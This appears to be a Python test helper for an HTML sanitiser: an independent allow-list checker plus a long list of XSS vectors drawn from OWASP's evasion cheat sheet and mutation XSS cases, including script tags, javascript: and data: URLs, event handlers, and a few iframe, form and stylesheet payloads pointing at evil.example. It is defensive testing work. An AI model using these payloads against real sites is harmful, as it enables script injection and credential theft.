"""What in a piece of HTML could run, load, submit or restyle something: an independent check.

The lists here are written for the tests, not imported from the sanitiser, so that a
mistake in its allow-list shows up as a failure rather than agreeing with itself.
"""

import re
from html import unescape
from html.parser import HTMLParser

SAFE_TAGS = {
    "a", "abbr", "b", "blockquote", "br", "caption", "cite", "code", "dd", "del", "dl",
    "dt", "em", "figcaption", "figure", "h2", "h3", "h4", "h5", "h6", "hr", "i", "img",
    "ins", "kbd", "li", "mark", "ol", "p", "pre", "q", "s", "samp", "small", "strong",
    "sub", "sup", "table", "tbody", "td", "tfoot", "th", "thead", "time", "tr", "u", "ul",
}  # fmt: skip
SAFE_ATTRIBUTES = {
    "alt", "colspan", "datetime", "dir", "height", "href", "lang", "loading",
    "referrerpolicy", "rel", "reversed", "rowspan", "scope", "src", "start", "target",
    "title", "width",
}  # fmt: skip
LINK_SCHEMES = ("http", "https", "mailto")
IMAGE_SCHEMES = ("http", "https")
_SCHEME = re.compile(r"^([a-zA-Z][a-zA-Z0-9+.-]*):")
_INVISIBLE = re.compile(r"[\x00-\x20\x7f]")


def unsafe_parts(html: str) -> list[str]:
    """Everything wrong with `html`, as readable strings; [] when it is safe to show."""
    checker = _Checker()
    checker.feed(html)
    checker.close()
    return checker.problems


def url_scheme(value: str) -> str:
    """The scheme a browser would see: entities decoded, controls and spaces ignored."""
    match = _SCHEME.match(_INVISIBLE.sub("", unescape(value)))
    return match.group(1).lower() if match else ""


class _Checker(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag not in SAFE_TAGS:
            self.problems.append(f"<{tag}> tag")
        for name, value in attrs:
            value = value or ""
            if name.startswith("on") or name not in SAFE_ATTRIBUTES:
                self.problems.append(f"{name}= on <{tag}>")
            elif name in ("href", "src"):
                allowed = LINK_SCHEMES if name == "href" else IMAGE_SCHEMES
                scheme = url_scheme(value)
                if scheme not in allowed:
                    self.problems.append(f"{name}={value!r} on <{tag}> (not absolute {allowed})")
            elif name == "target" and value != "_blank":
                self.problems.append(f"target={value!r}")
        if tag == "a" and "noopener" not in dict(attrs).get("rel", ""):
            self.problems.append("<a> without rel=noopener")

    handle_startendtag = handle_starttag

    def handle_comment(self, data):
        self.problems.append(f"comment {data!r}")

    def handle_decl(self, decl):
        self.problems.append(f"declaration {decl!r}")

    def handle_pi(self, data):
        self.problems.append(f"processing instruction {data!r}")

    def unknown_decl(self, data):
        self.problems.append(f"declaration {data!r}")


# Classic and less classic ways to run script through HTML (OWASP's filter evasion cheat
# sheet, mutation XSS that fooled DOMPurify, HTML5 entities), each sanitised in the tests.
XSS_VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)//<</script>/script>",
    '<img src="javascript:alert(1)">',
    "<IMG SRC=JaVaScRiPt:alert(1)>",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
    "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105"
    "&#0000112&#0000116&#0000058alert(1)>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74>",
    '<IMG SRC="jav\tascript:alert(1);">',
    '<IMG SRC="jav&#x09;ascript:alert(1);">',
    '<IMG SRC="jav&#x0A;ascript:alert(1);">',
    '<IMG SRC=" &#14;  javascript:alert(1);">',
    '<a href="&#x6A;avascript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="JAVASCRIPT:alert(1)">x</a>',
    '<a href="java\x00script:alert(1)">x</a>',
    '<a href="javas&#99;ript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="jav&NewLine;ascript:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<img src="DATA:image/png;base64,iVBORw0KGgo=">',
    "<img src=x onerror=alert(1)>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<body onload=alert(1)>text</body>",
    '<div onmouseover="alert(1)">hover</div>',
    "<details open ontoggle=alert(1)>x</details>",
    "<x onclick=alert(1)>click</x>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<style>@import 'https://evil.example/x.css';</style>",
    '<div style="background:url(javascript:alert(1))">styled</div>',
    '<p style="behavior: url(x.htc); color: expression(alert(1))">styled</p>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe src="https://www.youtube.com.evil.example/embed/aBcDeFgHiJk"></iframe>',
    '<frameset><frame src="javascript:alert(1)"></frameset>',
    '<form action="https://evil.example/"><input name="password"><button formaction='
    '"javascript:alert(1)">Go</button></form>',
    '<isindex action="javascript:alert(1)" type="image">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<applet code="Evil.class"></applet>',
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    '<a href="https://ok.example/" target="_self" ping="https://evil.example/">ok</a>',
    '<img srcset="javascript:alert(1) 1x" src="https://ok.example/a.png">',
    "<template><script>alert(1)</script></template>",
    '<a id="location" name="cookie" href="https://ok.example/">clobber</a>',
    "<xmp><script>alert(1)</script></xmp>",
    "<textarea><script>alert(1)</script></textarea>",
    "<title><script>alert(1)</script></title>",
    "<plaintext><script>alert(1)</script>",
]
